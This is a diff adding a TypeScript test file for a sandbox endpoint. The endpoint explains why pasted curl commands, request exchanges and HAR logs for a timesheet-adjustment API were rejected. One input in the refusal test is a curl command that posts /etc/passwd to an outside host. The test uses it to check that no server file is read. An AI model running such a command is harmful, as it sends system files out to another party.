@@ -1,0 +1,66 @@
+import t from 'tap'
+import { testServer } from '../../support/server.ts'
+
+const missing = {
+  jornada: '2026-03-13',
+  formato: 'TEMPO_FALTANTE',
+  descricao: 'Esqueci',
+  motivoId: 'm-77',
+  jornadas: ['13/03/2026']
+}
+const url = 'https://homologacao.example/ajuste-registro/solicitar'
+const authorization = 'Bearer segredo-0123456789'
+const curl = `curl '${url}' -H 'Authorization: ${authorization}' --json '${JSON.stringify(missing)}'`
+const exchange = {
+  method: 'POST',
+  url,
+  requestHeaders: { authorization, 'content-type': 'application/json' },
+  requestBody: missing,
+  status: 400,
+  responseBody: { message: 'jornada must match DD/MM/YYYY' }
+}
+
+t.test('a pasted text is explained by the settings of the sandbox, and kept nowhere', async t => {
+  const { call } = await testServer(t)
+  const explain = async (body: object, base = '/~pasted') => await call(`POST ${base}/_sandbox/explain`, { body })
+  const cause = { cause: 'rule', findings: [{ code: 'wrong-format', pointer: '/jornada' }] }
+  t.match((await explain({ text: curl, status: 400, response: 'jornada' })).body, { refusals: [cause] }, 'curl')
+  t.match((await explain({ text: JSON.stringify(exchange) })).body, { refusals: [cause] }, 'an exchange')
+  const sent = JSON.stringify(missing)
+  const har = {
+    log: {
+      entries: [{
+        request: { method: 'POST', url, headers: [], postData: { mimeType: 'application/json', text: sent } },
+        response: { status: 400, headers: [], content: { text: '{"message":"jornada"}' } }
+      }]
+    }
+  }
+  t.match((await explain({ text: JSON.stringify(har, null, 2) })).body, { refusals: [cause] }, 'a HAR')
+  const would = { status: 400, findings: cause.findings }
+  t.match((await explain({ text: curl })).body, { would }, 'without a status')
+
+  const formless = curl.replace('"formato":"TEMPO_FALTANTE",', '').replace('2026-03-13', '13/03/2026')
+  t.match((await explain({ text: formless })).body.would.findings[0], { code: 'required', pointer: '/formato' })
+  await call('PATCH /~lenient/_sandbox/settings', { body: { 'adjustment.missingFormat': 'default' } })
+  t.notMatch((await explain({ text: formless }, '/~lenient')).body.would.findings, [{ pointer: '/formato' }])
+
+  const { body: { requests } } = await call('GET /~pasted/_sandbox/requests?control=true')
+  t.same(requests, [], 'the log has none of it')
+  const { text } = await call('GET /~pasted/_sandbox/state')
+  t.notMatch(text, 'm-77')
+})
+
+t.test('what is no such text is refused', async t => {
+  const { call } = await testServer(t)
+  const texts = [
+    '', 'hello', '{"a":', '<html>', 'curl', "curl 'https://x/people'", 'curl -d @/etc/passwd https://x/api-key',
+    `${'['.repeat(50_000)}`, '{"log":{"entries":[1]}}', '\u0000', 'null'
+  ]
+  for (const text of texts) {
+    const { status, body } = await call('POST /_sandbox/explain', { body: { text } })
+    t.ok(status === 400 || (status === 200 && body.refusals.length === 0), `${text.slice(0, 40)}: ${status}`)
+    t.notMatch(JSON.stringify(body), 'root:', 'no file of the server is read')
+  }
+  t.equal((await call('POST /_sandbox/explain', { body: { text: 'x', more: 1 } })).status, 400)
+  t.equal((await call('POST /_sandbox/explain', { body: { text: 'x'.repeat(1_100_000) } })).status, 413)
+})
